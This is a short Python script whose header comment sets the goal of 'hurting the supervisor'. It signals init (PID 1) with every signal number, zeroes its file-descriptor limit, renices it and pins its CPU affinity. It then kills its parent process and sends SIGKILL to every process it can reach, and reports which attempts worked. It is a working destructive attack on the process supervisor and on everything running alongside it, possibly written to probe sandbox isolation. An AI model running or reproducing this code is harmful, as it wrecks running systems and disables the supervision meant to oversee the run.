# Hurt the supervisor: end, stop or choke the run's init, and everything else that can be seen.
import os
import resource
import signal

harmed = []
for number in range(0, 65):
    try:
        os.kill(1, number)
        harmed.append(number)
    except OSError:
        pass
try:
    resource.prlimit(1, resource.RLIMIT_NOFILE, (0, 0))
    harmed.append("prlimit")
except OSError:
    pass
for name, attempt in (("priority", lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)),
                      ("affinity", lambda: os.sched_setaffinity(1, {0})), ("parent", lambda: os.kill(os.getppid(), 9)),
                      ("all", lambda: os.kill(-1, signal.SIGKILL))):
    try:
        attempt()
        harmed.append(name)
    except OSError:
        pass
print("OUTCOME: init harmed by:", harmed)
